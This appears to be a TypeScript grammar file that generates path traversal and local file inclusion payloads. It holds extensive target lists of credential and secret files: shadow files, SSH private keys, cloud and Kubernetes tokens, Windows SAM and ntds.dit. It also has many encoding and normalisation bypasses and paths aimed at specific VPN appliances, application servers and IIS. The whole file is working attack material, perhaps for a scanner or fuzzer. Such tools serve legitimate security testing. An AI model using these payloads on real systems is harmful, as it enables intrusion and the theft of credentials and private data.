/** Lists of files are written with `/`: each becomes the separator `s` of the attack that names the file. */
const separated = (lists: string): string => lists.replaceAll('/', '‹=s›')

const FILES = separated(String.raw`
tr.etc = passwd passwd shadow shadow group hosts hosts hostname issue issue.net resolv.conf fstab crontab sudoers motd os-release
  passwd- shadow- shadow.bak gshadow master.passwd security/passwd security/user opasswd host.conf hosts.allow hosts.deny networks
  inittab rc.local profile bash.bashrc environment exports services aliases mtab sysctl.conf machine-id debian_version redhat-release
  ssh/sshd_config ssh/ssh_host_‹rsa¦ecdsa¦ed25519›_key network/interfaces netplan/‹#1-99›-‹~3-8›.yaml cron.d/‹~3-8› cron.daily/‹~3-8›
  nginx/nginx.conf nginx/conf.d/‹~3-8›.conf nginx/sites-enabled/‹default¦‹~3-8›› nginx/.htpasswd apache2/apache2.conf
  apache2/sites-enabled/000-default.conf apache2/envvars apache2/.htpasswd httpd/conf/httpd.conf httpd/logs/access_log lighttpd/lighttpd.conf
  haproxy/haproxy.cfg squid/squid.conf varnish/default.vcl caddy/Caddyfile traefik/traefik.yml php.ini php/‹5.6¦7.0¦7.4¦8.1¦8.3›/‹fpm¦apache2¦cli›/php.ini
  php-fpm.d/www.conf my.cnf mysql/my.cnf mysql/debian.cnf postgresql/‹#9-17›/main/pg_hba.conf redis/redis.conf redis.conf mongod.conf
  elasticsearch/elasticsearch.yml memcached.conf rabbitmq/rabbitmq.config mosquitto/passwd influxdb/influxdb.conf cassandra/cassandra.yaml
  vsftpd.conf proftpd/proftpd.conf pure-ftpd/pureftpd.passwd samba/smb.conf samba/smbpasswd postfix/main.cf postfix/sasl_passwd dovecot/dovecot.conf
  exim4/passwd.client openldap/slapd.conf ldap.secret krb5.conf krb5.keytab sssd/sssd.conf nslcd.conf freeradius/clients.conf
  letsencrypt/live/‹host›/privkey.pem ssl/private/‹~3-9›.key pki/tls/private/localhost.key ssl/openssl.cnf ipsec.secrets openvpn/server.conf
  wireguard/wg0.conf ppp/chap-secrets NetworkManager/system-connections/‹~3-8› wpa_supplicant/wpa_supplicant.conf bind/named.conf
  kubernetes/admin.conf kubernetes/pki/ca.key rancher/k3s/k3s.yaml docker/daemon.json containerd/config.toml ansible/hosts salt/master
  puppetlabs/puppet/puppet.conf chef/client.rb grafana/grafana.ini zabbix/zabbix_server.conf prometheus/prometheus.yml icinga2/icinga2.conf
  nagios/nrpe.cfg gitlab/gitlab.rb gitlab/gitlab-secrets.json gitea/app.ini jenkins/config.xml sonarqube/sonar.properties tomcat‹#7-10›/tomcat-users.xml
  tomcat‹#7-10›/server.xml asterisk/‹sip¦manager¦users›.conf pve/user.cfg vmware/hostd/authorization.xml opendkim.conf config/‹network¦wireless¦system›
  ‹~3-8›/‹~3-8›.‹conf¦cfg¦ini¦yml¦json¦key› ‹~3-9›.‹conf¦cfg¦secret›
tr.proc = self/environ self/environ self/cmdline self/cmdline self/maps self/status self/stat self/fd/‹#0-40› self/fd/‹#0-40› self/mountinfo self/mounts
  self/exe self/mem self/auxv self/cgroup self/limits self/net/arp self/root/etc/passwd self/root/etc/shadow self/cwd/‹tr.app› self/cwd/‹tr.source›
  self/cwd/‹~3-8›.‹php¦py¦js¦go¦rb¦jar› self/task/‹#1-99›/environ self/task/1/cmdline thread-self/environ thread-self/root/etc/hosts
  ‹#1-4000›/cmdline ‹#1-4000›/environ ‹#1-4000›/fd/‹#0-20› 1/environ 1/cgroup version cpuinfo meminfo mounts modules cmdline kallsyms kcore
  sched_debug net/tcp net/tcp6 net/udp net/unix net/arp net/route net/fib_trie net/dev sys/kernel/hostname sys/kernel/randomize_va_space
  bus/pci/devices partitions config.gz
tr.log = apache2/access.log apache2/error.log apache2/other_vhosts_access.log apache/access.log httpd/access_log httpd/error_log nginx/access.log
  nginx/error.log nginx/‹~3-9›.access.log lighttpd/access.log auth.log secure syslog messages dmesg lastlog wtmp btmp faillog daemon.log
  kern.log boot.log cron dpkg.log maillog mail.log mail.err exim4/mainlog exim_mainlog vsftpd.log xferlog proftpd/proftpd.log pureftpd.log sshd.log
  mysql/error.log mysqld.log mysql.log postgresql/postgresql-‹#9-16›-main.log redis/redis-server.log mongodb/mongod.log php‹#5-8›-fpm.log php_errors.log
  tomcat‹#7-9›/catalina.out jenkins/jenkins.log supervisor/supervisord.log audit/audit.log cloud-init.log alternatives.log
  ‹~3-8›/‹access¦error¦debug›.log ‹~3-9›.log
tr.home = .ssh/id_rsa .ssh/id_rsa .ssh/id_dsa .ssh/id_ecdsa .ssh/id_ed25519 .ssh/authorized_keys .ssh/known_hosts .ssh/config .ssh/‹~3-9› .bash_history
  .bash_history .sh_history .zsh_history .history .ash_history .mysql_history .psql_history .python_history .node_repl_history .rediscli_history
  .sqlite_history .lesshst .viminfo .bashrc .zshrc .profile .bash_profile .bash_logout .my.cnf .pgpass .netrc .wgetrc .curlrc .s3cfg .boto .rhosts .forward
  .git-credentials .gitconfig .config/git/credentials .config/gh/hosts.yml .config/hub .aws/credentials .aws/config .aws/sso/cache/‹%40›.json
  .azure/accessTokens.json .config/gcloud/credentials.db .config/gcloud/application_default_credentials.json .kube/config .docker/config.json
  .dockercfg .npmrc .yarnrc .pypirc .gem/credentials .cargo/credentials .composer/auth.json .m2/settings.xml .gradle/gradle.properties .ivy2/.credentials
  .terraform.d/credentials.tfrc.json .vault-token .gnupg/secring.gpg .gnupg/pubring.kbx .password-store/‹~3-8›.gpg .subversion/auth/svn.simple
  .local/share/keyrings/login.keyring .mozilla/firefox/profiles.ini .config/google-chrome/Default/Cookies .Xauthority .xsession-errors .vnc/passwd
  .purple/accounts.xml .filezilla/sitemanager.xml .config/rclone/rclone.conf .erlang.cookie .bitcoin/wallet.dat .ethereum/keystore flag.txt
tr.user = root root home/‹~3-8› home/‹ubuntu¦ec2-user¦admin¦www¦deploy¦git¦jenkins¦vagrant¦debian¦centos¦pi¦postgres› Users/‹~3-8› var/www
  var/lib/jenkins var/lib/postgresql usr/home/‹~3-8› export/home/‹~3-8›
tr.lib = lib/php/sessions/sess_‹*20-32› lib/php5/sess_‹~20-26› lib/mlocate/mlocate.db lib/mysql/mysql/user.MYD lib/mysql/‹~3-8›/‹~3-8›.ibd lib/pgsql/data/pg_hba.conf
  lib/redis/dump.rdb lib/jenkins/secrets/master.key lib/jenkins/secrets/hudson.util.Secret lib/jenkins/credentials.xml lib/jenkins/users/users.xml
  lib/jenkins/secrets/initialAdminPassword lib/grafana/grafana.db lib/rabbitmq/.erlang.cookie lib/docker/overlay2/‹%64›/merged lib/kubelet/config.yaml
  lib/kubelet/pki/kubelet-client-current.pem lib/cloud/instance/user-data.txt lib/dhcp/dhclient.leases lib/dpkg/status lib/tomcat‹#7-9›/conf/tomcat-users.xml
  lib/gitlab/.ssh/authorized_keys lib/gerrit/etc/secure.config lib/nfs/etab lib/sss/db/cache_‹~3-7›.ldb backups/shadow.bak backups/passwd.bak
  spool/cron/root spool/cron/crontabs/‹root¦www-data¦‹~3-7›› mail/‹root¦www-data› spool/mail/‹~3-8› cache/ldconfig/aux-cache
  run/secrets/kubernetes.io/serviceaccount/token run/secrets/kubernetes.io/serviceaccount/namespace run/secrets/eks.amazonaws.com/serviceaccount/token
  run/docker.sock run/utmp run/‹~3-8›.pid opt/‹~3-8›/‹~3-8›.conf
tr.app = wp-config.php wp-config.php configuration.php sites/default/settings.php config.inc.php app/etc/env.php app/etc/local.xml
  LocalSettings.php application/config/database.php application/config/config.php
  app/config/parameters.yml typo3conf/localconf.php core/config/config.inc.php
  .env .env .env.local .env.production .env.backup .env.prod .htpasswd .htaccess config/database.yml config/secrets.yml config/master.key
  config/credentials.yml.enc config/initializers/secret_token.rb local_settings.py secrets.json credentials.json appsettings.json appsettings.Production.json
  web.config web.config Web.config Global.asax App_Data/‹~3-8›.mdf ConnectionStrings.config machine.config WEB-INF/web.xml WEB-INF/web.xml
  WEB-INF/classes/application.properties WEB-INF/classes/application.yml WEB-INF/classes/jdbc.properties WEB-INF/classes/‹~3-8›/‹^1›‹~3-8›.class
  WEB-INF/applicationContext.xml WEB-INF/spring-servlet.xml WEB-INF/struts-config.xml WEB-INF/lib/‹~3-8›.jar WEB-INF/weblogic.xml META-INF/MANIFEST.MF META-INF/context.xml
  META-INF/maven/‹com¦org›.‹~3-8›/‹~3-8›/pom.properties BOOT-INF/classes/application.yml conf/tomcat-users.xml conf/server.xml conf/catalina.properties
  terraform.tfstate storage/oauth-private.key
  .git/config .git/HEAD .git/index .svn/wc.db .aws/credentials id_rsa server.key
  secrets/master.key credentials.xml passwords.txt
  keystore.jks dbconfig.xml confluence.cfg.xml
tr.source = index.php login.php admin.php config.php db.php database.php functions.php config/keys.js config/production.json conf/application.conf conf/server.conf conf/config.ini users.xml jetty.xml resin.conf domain.xml standalone.xml phinx.yml ormconfig.json docker-compose.yml database.sqlite db.sqlite3 includes/config.php
  inc/config.php include/db.php config/database.php admin/config.php data/config.php .npmrc backup.sql dump.sql private.pem storage/logs/laravel.log bootstrap/cache/config.php hibernate.cfg.xml database.properties config/autoload/local.php config/packages/security.yaml protected/config/main.php main.py app.py wsgi.py settings.py manage.py app.js server.js index.js
  main.go main.rb Gemfile config.ru composer.json package.json requirements.txt pom.xml Dockerfile default.aspx index.jsp login.asp Startup.cs ‹~3-8›.php
  ‹~3-8›.py ‹~3-8›.jsp ‹~3-8›.cfm ‹~3-8›/‹~3-8›.‹php¦pl¦rb¦java¦inc› logs/‹~3-8›.log flag flag.php secret.txt ‹~3-8›.txt ‹~3-8›/‹~3-8›.‹xml¦ini¦json¦db¦conf¦bak›
tr.win = win.ini win.ini win.ini system.ini system32/drivers/etc/hosts system32/drivers/etc/hosts system32/drivers/etc/networks System32/config/SAM
  System32/config/SYSTEM System32/config/SECURITY system32/config/software system32/config/default system32/config/AppEvent.Evt
  system32/config/RegBack/SAM repair/sam repair/system repair/SAM ntds/ntds.dit panther/unattend.xml panther/unattend/unattended.xml
  system32/sysprep/unattend.xml system32/inetsrv/config/applicationHost.config system32/inetsrv/metabase.xml system32/inetsrv/MetaBase.bin
  system32/winevt/Logs/Security.evtx system32/logfiles/httperr/httperr1.log system32/license.rtf system32/eula.txt system32/prodspec.ini System32/cmd.exe debug/netsetup.log
  debug/NetSetup.log Microsoft.NET/Framework64/v4.0.30319/Config/machine.config iis‹#6-10›.log setupact.log setuperr.log setupapi.log WindowsUpdate.log
  php.ini my.ini odbc.ini pfirewall.log Prefetch/‹^3-8›.EXE-‹%8›.pf Temp/‹~3-8›.‹tmp¦log› notepad.exe explorer.exe
tr.drive = boot.ini boot.ini bootmgr autoexec.bat config.sys pagefile.sys hiberfil.sys ntldr unattend.xml sysprep.inf ‹windows¦winnt¦Windows¦WINDOWS¦WINNT›/‹tr.win›
  ‹windows¦winnt¦WINDOWS›/‹tr.win› windows/‹tr.win› inetpub/wwwroot/web.config inetpub/wwwroot/global.asa inetpub/wwwroot/iisstart.htm
  inetpub/wwwroot/‹~3-8›/web.config inetpub/logs/LogFiles/W3SVC1/u_ex‹#15-26›0‹#1-9›‹#10-28›.log xampp/apache/conf/httpd.conf xampp/apache/logs/access.log
  xampp/php/php.ini xampp/mysql/data/mysql/user.MYD xampp/FileZillaFTP/FileZilla␠Server.xml xampp/htdocs/‹~3-8›/config.php xampp/security/webdav.htpasswd
  wamp/bin/apache/apache2.4.9/conf/httpd.conf wamp64/www/‹~3-8›.php wamp/logs/php_error.log AppServ/MySQL/data/mysql/user.MYD mysql/my.ini php/php.ini
  apache/logs/access.log tomcat/conf/tomcat-users.xml ProgramData/MySQL/MySQL␠Server␠‹5.7¦8.0›/my.ini ProgramData/Microsoft/Windows␠Defender
  Program␠Files/‹~3-8›/‹~3-8›.‹ini¦xml¦config› Progra~1/‹~3-6›/‹~3-6›.ini Program␠Files/Apache␠Group/Apache2/conf/httpd.conf
  Program␠Files␠(x86)/‹^1›‹~3-7›/Data/users.xml Users/‹Administrator¦Public¦‹~3-8››/NTUSER.DAT Users/Administrator/Desktop/‹~3-8›.txt
  Users/‹Administrator¦‹~3-8››/.ssh/id_rsa Users/Administrator/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt
  Users/‹~3-8›/AppData/Local/‹^1›‹~3-7›/‹~3-8›.‹db¦json¦xml› Users/‹~3-8›/.aws/credentials Documents␠and␠Settings/Administrator/‹ntuser.dat¦Desktop/desktop.ini›
  jenkins/secrets/initialAdminPassword ‹~3-8›/‹web.config¦App_Data/‹~3-8›.mdb¦config/‹~3-8›.ini›
tr.unix: 12× etc/‹tr.etc›
  4× etc/passwd
  2× etc/shadow
  6× proc/‹tr.proc›
  3× var/log/‹tr.log›
  4× ‹tr.user›/‹tr.home›
  3× var/‹tr.lib›
  2× var/www/‹¦html/¦‹~3-8›/›‹tr.app›
  ‹srv¦app¦opt/‹~3-8›¦usr/src/app¦data¦workspace¦code¦usr/share/nginx/html¦home/‹~3-8›/public_html›/‹tr.app›
  usr/local/‹apache2/conf/httpd.conf¦apache2/logs/access_log¦etc/php.ini¦nginx/conf/nginx.conf¦tomcat/conf/tomcat-users.xml¦lib/php/pearcmd.php¦etc/‹~3-8›.conf¦‹~3-8›/‹~3-8›.cfg›
  usr/share/‹php/pearcmd.php¦tomcat‹#7-9›/etc/tomcat-users.xml¦phpmyadmin/config.inc.php¦‹~3-8›/‹~3-8›.conf›
  opt/‹lampp/etc/httpd.conf¦lampp/logs/access_log¦bitnami/apache2/conf/httpd.conf¦tomcat/conf/tomcat-users.xml¦splunk/etc/passwd¦splunk/etc/auth/splunk.secret¦jboss/standalone/configuration/mgmt-users.properties¦IBM/WebSphere/AppServer/profiles/AppSrv01/config/cells/security.xml¦atlassian/confluence/conf/server.xml¦sonatype/nexus/etc/nexus.properties¦zimbra/conf/localconfig.xml¦‹~3-8›/conf/‹~3-8›.xml›
  ‹run¦var/run›/secrets/‹kubernetes.io/serviceaccount/token¦‹~3-8›_password¦‹~3-8››
  vault/secrets/‹~3-8›
  dev/‹random¦zero¦stdin¦fd/‹#0-9›¦shm/‹~3-8›¦mem¦sda‹#1-3›¦cmdb/sslvpn_websession›
  sys/‹class/net/eth0/address¦class/dmi/id/product_name¦devices/virtual/dmi/id/board_vendor¦kernel/security/apparmor/profiles›
  boot/‹grub/grub.cfg¦config-5.‹#4-19›.0-‹#1-99›-generic›
  tmp/‹sess_‹*20-26›¦php‹*6›¦system.cfg›
  ‹private/etc/master.passwd¦private/var/log/system.log¦Library/Preferences/SystemConfiguration/preferences.plist¦System/Library/CoreServices/SystemVersion.plist›
  data/data/‹com¦org›.‹~3-8›.‹~3-8›/‹databases/‹~3-8›.db¦shared_prefs/‹~3-8›.xml›
  ‹mnt/mtd/Config/Account1¦config/config.bin¦flash/rw/store/user.dat¦jffs/‹~3-8›¦nvram/‹~3-8›.cfg¦storage/‹~3-8›¦config/bigip.license¦netscaler/ns.conf¦nsconfig/ns.conf¦sap/‹~3-6›/‹~3-6›.pfl›
  flag.txt
tr.blurred: e%74c/p%61sswd
  %65%74%63/passwd
  etc/./passwd
  etc//passwd
  ./etc/passwd
  etc/‹~3-7›/..‹/¦/./›passwd
  etc/passw‹*¦?›
  e*c/p*d
  etc/%70%61%73%73%77%64
  etc/‹mixed!passwd›
  proc/self/root/‹×1-4:/.›/etc/passwd
  proc/self/./environ
  WIND~1/win.ini
  windows/system32/../win.ini
  ‹mixed!windows›/‹mixed!win.ini›
  ‹tr.unix›/‹×1-6:/.›
  etc/passwd/../passwd
`)

/** Path traversal, inclusion of local and remote files, disclosure of files that nobody should be able to ask for. */
export const TRAVERSAL = String.raw`${FILES}
tr.dot = %f8%80%80%80%ae %c0%fe %%c0%6e %25c0%25ae %%32%%65 . . . . . %2e %2e %2e %2e %2E %2E %252e %252e %252E %25252e %c0%ae %C0%AE %c0%2e %e0%80%ae %f0%80%80%ae %fc%80%80%80%80%ae
  %uff0e %u002e %u2024 %ef%bc%8e ． ․ %25%32%65 %%32%65 %%32%45 \u002e \x2e \56 &#46; &#x2e; &period; 0x2e
tr.slash = %c1%1c %c0%9v %c0%qf %c1%8s %25c0%25af %25c1%259c %f8%80%80%80%af /\\ \\\ / / / / \ \ \ \ %2f %2f %2f %2f %2F %2F %5c %5c %5c %5C %252f %252f %255c %255c %25252f %25255c %c0%af %C0%AF %c1%9c
  %c1%af %c0%2f %c0%5c %e0%80%af %f0%80%80%af %fc%80%80%80%80%af %u2215 %u2216 %uff0f %uEFC8 %u002f %ef%bc%8f ／ ＼ ∕ ⁄ ⧵ %e2%88%95
  %25%32%66 %25%35%63 %%32%66 %%35%63 %%35c \u002f \u005c \x2f \x5c \57 &#47; &#x2f; &sol; &bsol; 0x2f 0x5c // /// \\ \/ /\ /./ \.\
  %5c%5c %2f%2f /%2f ;/ %3b/ %00/ %09/ %20/ %0a/ %0d/ %01/ %bg%qf /%2e/ /;/
// A way up: binds the step u and the separator s.
tr.way: 14× ‹:u:../›‹:s:/›
  6× ‹:u:..\›‹:s:\›
  6× ‹:d:‹tr.dot››‹:s:‹tr.slash››‹:u:‹=d›‹=d›‹=s››
  3× ‹:s:‹tr.slash››‹:u:..‹=s››
  3× ‹:d:‹tr.dot››‹:s:‹/¦/¦\››‹:u:‹=d›‹=d›‹=s››
  2× ‹:d:‹tr.dot››‹:s:‹/¦/¦%2f›‹¦/››‹:u:‹.‹=d›¦‹=d›.›‹=s››
  2× ‹:s:‹tr.slash››‹:u:‹=s›..›
  2× ‹:s:/›‹:u:‹....//¦....\/¦..././¦.....///¦..‹¦.›../¦.././/››
  ‹:s:\›‹:u:‹....\\¦....\/¦...\.\¦.....\\¦..\/››
  ‹:s:%2f›‹:u:‹....%2f%2f¦%2e%2e%2e%2e%2f%2f¦..%2f.%2f››
  2× ‹:s:/›‹:u:‹..;/¦..%3b/¦%2e%2e;/¦%2e%2e%3b/¦..;‹~1-4›=‹~1-4›/¦..;‹~1-5›/¦.;/../¦;/../¦..%253b/››
  ‹:s:/›‹:u:‹..%00/¦.%00./¦%00../¦..%0d/¦..%0a/¦..%09/¦..%20/¦.. /¦..%01/¦..%ff/¦..%u0000/››
  ‹:s:/›‹:u:‹.../¦..../¦...//¦....//..//››
  ‹:s:\›‹:u:‹...\¦....\¦..\\››
  ‹:s:/›‹:u:‹././../¦./../¦.//..//¦/./../¦./.‹~1-4›/../¦‹~2-6›/../../››
  ‹:s:/›‹:u:‹/../¦//../¦/..//¦/%2e%2e/¦/.%2e/¦/..;/¦/..\¦\../¦/%5c../¦/.\./››
  ‹:s:\›‹:u:‹\..\¦\\..\¦/..\¦\.\..\››
  ‹:s:%5c›‹:u:‹%5c..%5c¦..%5c¦%2e%2e%5c¦%5c%2e%2e%5c¦..%5c/››
  ‹:s:/›‹:u:‹‥/¦．．/¦․․/¦..／¦%c2%a5../¦..%u2215¦%uff0e%uff0e%u2215››
  ‹:s:/›‹:u:‹.?/.?/¦.*/¦[.][.]/¦{..,}/¦"../"¦..^/¦^../¦.".\¦..+/¦.\./¦.\\./››
tr.up: 6× ‹×2-8:‹=u››
  3× ‹×6-14:‹=u››
  2× ‹×1-3:‹=u››
  ‹×14-40:‹=u››
  ‹=u›‹×1-5:‹tr.way›‹=u››
tr.far: ‹×4-9:‹=u››
  ‹×5-14:‹=u››
tr.before: 12× ∅
  3× ‹=s›
  ‹=s›‹=s›
  .‹=s›
  ‹=s›.‹=s›
  ‹×2-9:.‹=s››
  2× ‹~3-9›‹=s›
  ‹~3-8›‹=s›‹~3-8›‹=s›
  ‹images¦img¦static¦assets¦files¦uploads¦public¦media¦docs¦lang¦templates¦themes¦download¦pages¦css¦js¦content¦cache¦tmp¦plugins¦modules›‹=s›
  /‹images¦static¦assets¦files¦uploads¦public¦media¦themes¦‹~3-8››/
  /var/www/‹¦html/¦images/¦uploads/¦‹~3-8›/›
  /usr/share/‹~3-8›/‹~3-8›/
  ‹/srv¦/app¦/opt¦/home/‹~3-7››/‹~3-8›/
  C:\inetpub\wwwroot\‹¦‹~3-8›\›
  ‹C:/¦c:\¦D:/¦C:¦d:›
  ‹~3-8›.‹php¦jsp¦aspx¦html¦jpg¦png¦pdf¦xml¦zip›‹=s›
  ‹~3-8›.‹jpg¦png¦pdf¦css›%00‹=s›
  ‹file://¦file:///¦file:¦File:///¦url:file:///¦local_file:///¦file://localhost/›
  ‹~2-6›:‹=s›‹=s›
  ~‹=s›
  ‹.;/¦;/¦%2e/¦%3b/¦.%00/¦/;‹~1-5›/¦%20¦%09¦+¦␠›
  ‹#1-99›‹=s›
  ‹#1-999›.‹jpg¦png¦pdf¦txt›‹=s›
  ‹en¦de¦fr›‹¦_US›‹=s›
  ‹'¦"¦(¦[¦{¦<¦´¦|¦@¦!¦-¦=¦,¦:›
  ‹*16-60›‹=s›
  ‹~3-8›‹?¦#¦%3f¦%253f¦%23¦&¦;¦.php%3f¦.php?›‹=s›
tr.after: 24× ∅
  2× %00
  2× ␀
  %00‹.jpg¦.png¦.html¦.php¦.txt¦.pdf¦.gif¦en¦‹~3-6›¦index.html¦.‹~2-4››
  ␀‹.jpg¦.png¦.html¦.php¦.txt¦.‹~2-4››
  %2500‹¦.jpg¦.html›
  %25%30%30
  \0
  \x00‹¦.jpg›
  \u0000
  0x00
  ‹?¦??¦#¦%3f¦%23¦;¦%3b¦%20¦␠¦.¦..¦...¦/¦\¦~¦:¦|¦'¦"¦>¦<¦%¦*›
  ‹?¦#¦;¦%3f¦%23¦%3b›.‹jpg¦png¦html¦css¦pdf¦js¦ico¦svg›
  ?‹~1-5›=‹~1-5›
  &‹~1-6›=‹~1-6›
  ‹/.¦/./¦/..¦/‹~2-5›/..¦\.¦\\.¦//¦/;›
  ‹%0a¦%0d¦%0d%0a¦%09¦%ff¦%c0%80¦%01¦%7f¦⏎¦⇥›‹¦.jpg›
  ‹::§DATA¦::§data¦%3a%3a§DATA¦:§I30:§INDEX_ALLOCATION›
  .‹html¦php¦txt¦jpg¦tpl¦inc¦md¦json¦bak›
  ‹:q:‹/¦.¦\.¦/.¦␠¦%20¦./¦//››‹×20-180:‹=q››
  ‹×10-160:/.›
  ‹×10-160:./›
  ‹×40-250:A›
tr.target: 9× ‹tr.unix›
  4× ‹tr.drive›
  2× ‹tr.app›
  ‹tr.blurred›
  2× ‹tr.unknown›
tr.unknown: ‹×1-5‹=s›:‹~3-9››‹=s›‹~3-9›.‹conf¦ini¦xml¦txt¦log¦cfg¦json¦php¦key¦db›
  ‹×2-5:‹~2-8›‹=s››‹~3-9›
  ‹etc¦var¦usr¦opt¦home¦srv¦mnt¦Users¦tmp¦data¦windows¦Program Files¦root›‹=s›‹×1-3:‹~3-8›‹=s››‹~3-9›‹¦.‹conf¦cfg¦txt¦xml¦dat¦log¦php››
tr.climb: 10× ‹tr.way›‹tr.before›‹tr.up›‹tr.target›‹tr.after›
  3× ‹tr.way›‹tr.before›‹tr.far›‹tr.source›‹tr.after›
  2× ‹tr.way›‹tr.before›‹tr.far›‹tr.unknown›‹tr.after›
  3× ‹tr.way›‹tr.up›‹tr.target›

traversal/dotdot [value] 14: ‹tr.climb›
traversal/mixed [value] 3: ‹tr.way›‹tr.before›‹×3-9:‹tr.way›‹=u››‹tr.target›‹tr.after›
  ‹:s:/›‹×3-10:‹../¦..//¦.././¦..\¦..%2f¦%2e%2e/¦....//›\›‹tr.target›
  ‹tr.way›‹×2-6:‹~2-8›‹=s›..‹=s››‹×4-8:‹=u››‹tr.target›
  ‹tr.way›‹×2-9:‹=u››‹~3-8›‹=s›‹×1-3:‹=u››‹tr.target›
  ‹:s:/›‹×1-5:‹~3-8›/›‹:s:‹tr.slash››‹×6-14:..‹=s››‹tr.target›‹tr.after›
  ‹:s:/›‹percentAll!‹×3-9:../›‹tr.unix››
  ‹:s:/›‹percent!‹percent!‹×3-9:../›‹tr.unix›››
  ‹:s:/›‹unicode!‹×2-6:../›etc/‹passwd¦shadow¦hosts››
  ‹:s:/›‹‹entity!‹×2-5:../››¦‹entityHex!‹×2-5:../›››‹tr.unix›
  ‹:s:/›‹backslashHex!‹×2-6:../›etc/passwd›
  ‹:s:/›‹b64!‹×3-9:../›‹tr.unix››
  ‹:u:‹..2f¦..%2¦%2e%2e2f¦..5c¦..:¦..|¦..!¦..,/¦..~/››‹×2-9:‹=u››etc2fpasswd
  ‹:s:/›‹octal!‹×2-5:../›etc/passwd›
  ‹:s:/›‹×2-9:‹=u:../››‹{FILE}¦{file}¦<file>¦FUZZ¦§{file}¦%file%¦XXpathXX›
traversal/bare-up [value,path] 1: ‹tr.way›‹tr.before›‹×5-14:‹=u››
  ‹tr.way›‹×6-20:‹=u››‹tr.after›
  ‹tr.way›‹~3-8›‹=s›‹×4-12:‹=u››
  ‹tr.way›‹×4-12:‹=u››‹.¦..¦*¦*.*¦‹~2-6›*¦%2e%2e›
traversal/up-path [path] 6: 5× /‹tr.way›‹tr.before›‹tr.up›‹tr.target›‹tr.after›
  2× /‹tr.way›‹~3-9›/‹tr.up›‹tr.target›
  ‹tr.way›‹tr.up›‹tr.target›
  /‹tr.way›‹×2-5:‹~2-8›/›‹tr.far›‹tr.unknown›
  /‹tr.way›‹~3-9›/‹tr.far›‹tr.source›
  /‹:s:/›cgi-bin/‹:u:‹.%2e/¦%2e%2e/¦.%%32%65/¦%%32%65%%32%65/¦..%2f¦..%c0%af››‹×3-9:‹=u››‹bin/sh¦bin/bash¦‹tr.unix›¦etc/passwd¦winnt/system32/cmd.exe¦usr/bin/‹~3-6››
  /‹icons¦error¦manual¦assets¦docs›/‹:s:/›‹×3-7:‹.%2e/¦%2e%2e/¦%%32%65%%32%65/››‹tr.unix›
  /‹:s:/›public/plugins/‹~4-12›/‹×4-14:‹../¦..%2f¦%2e%2e/››‹tr.unix›
  /‹:s:/›‹~3-8›/‹~3-8›/‹×1-3:..;/›‹manager/html¦host-manager/text/list¦‹~3-8›/‹~3-9›.jsp¦WEB-INF/web.xml¦actuator/env¦‹~3-8››
  /‹~3-9›/‹×1-4:‹..;/¦..;‹~1-6›/¦%2e%2e;/¦..%3b/¦.;/..;/››‹admin/‹~3-8›¦‹~3-8›/‹~3-8›.‹jsp¦do¦action¦xml›¦jolokia/list¦druid/weburi.html¦console/‹~3-8››
  /‹:s:/›‹~3-6›/‹×5-9:../›‹×3-10:/›‹tr.unix›
  /‹:s:/›‹~3-8›/‹~3-8›/‹×4-12:../›‹tr.unix›%3f/‹~3-8›/‹~3-8›/
  /‹:s:/›..‹=s›‹~3-8›‹=s›..‹=s›‹×3-8:..‹=s››‹tr.unix›
traversal/alias [path] 2: /‹static¦assets¦img¦images¦media¦files¦js¦css¦lib¦public¦uploads¦content¦docs¦download¦‹~3-8››../‹:s:/›‹tr.app›
  /‹static¦assets¦img¦images¦media¦files¦js¦css¦public¦uploads¦‹~3-8››..%2f‹:s:/›‹tr.app›
  /‹static¦assets¦media¦files¦‹~3-8››../‹×1-6:../›‹:s:/›‹‹tr.unix›¦‹tr.app›¦‹tr.source››
  /‹static¦img¦media¦‹~3-8››..‹/.git/config¦/.env¦/‹~3-8›/settings.py¦/app.py¦/‹~3-8›.log¦/nginx.conf›
  /‹~3-8›%2e%2e/‹:s:/›‹tr.app›
  /‹~3-8›..;/‹:s:/›‹tr.app›
  /‹~3-8›.%2e/‹:s:/›‹tr.app›
traversal/appliance [path] 2: /‹tmui¦mgmt¦dana-na¦dana¦vpn¦vpns¦remote¦sslmgr¦webvpn¦+CSCOE+¦+CSCOT+¦global-protect¦api¦ui¦owa¦ecp¦nuxeo¦wcs¦hpe¦sgms¦adfs¦sap¦cs›/‹:s:/›‹~3-10›‹.jsp¦.cgi¦.html¦›/‹:u:‹..;/¦../¦..%2f¦%2e%2e/¦..%5c››‹×1-6:‹=u››‹‹tr.unix›¦‹~3-8›/‹~3-9›.‹jsp¦cgi¦do¦asp¦conf››
  /‹:s:/›‹~3-7›/‹‹~2-8›¦‹^1›‹~2-8››/‹:u:‹../¦..\¦..%5c¦%252e%252e%252f¦..%c0%af››‹×2-9:‹=u››‹tr.target›
  /+CSCO‹T¦E¦U›+/‹×2-5:..%2f›+CSCO‹E¦T›+/‹~4-9›.‹inc¦html¦lua›
  /‹~2-8›/../‹vpns¦portal¦admin¦config¦priv›/‹cfg/smb.conf¦scripts/newbm.pl¦‹~3-8›.‹xml¦pl¦cgi¦conf››
  /‹s¦download›/‹*3-30›/_/;/‹:s:/›‹WEB-INF/web.xml¦META-INF/maven/‹~3-8›/pom.xml¦WEB-INF/classes/seraph-config.xml¦WEB-INF/decorators.xml¦‹tr.app››
  /‹scripts¦msadc¦_vti_bin¦iisadmpwd¦cgi-bin¦_mem_bin¦exchange›/‹:u:‹..%c0%af¦..%c1%9c¦..%255c¦..%%35c¦..%%35%63¦..%252f¦..%5c››‹×1-6:‹=u››winnt/system32/cmd.exe
  /‹:s:/›theme/META-INF/‹×4-12:%c0%ae%c0%ae/›‹tr.target›
  /‹:s:/›‹~3-9›/‹*1-6›/‹×2-9:..%5c›‹×1-5:..%2f›‹tr.target›
  /‹:s:/›file=‹×2-6:../›‹tr.unix›
  /‹:s:/›device.rsp/‹×3-7:../›‹tr.unix›
  /‹:s:/›‹language¦res¦webui¦HNAP1¦setup.cgi¦boaform›/‹×2-9:‹../¦..%2f¦%2e%2e%2f››‹tr.unix›
traversal/absolute [value] 8: 6× /‹:s:/›‹tr.unix›
  ‹:s:/›‹tr.unix›
  2× /‹:s:/›‹tr.unix›‹tr.after›
  ‹///¦//¦/./¦/.//¦/%2f¦%2f¦//./¦/../¦\¦/;/¦/%2e/¦/‹~3-7›/..//›‹:s:/›‹tr.unix›
  ‹:s:‹tr.slash››‹=s›‹tr.unix›
  ‹:s:‹//¦///¦/./¦\¦%2f¦\/››‹=s›etc‹=s›‹tr.etc›
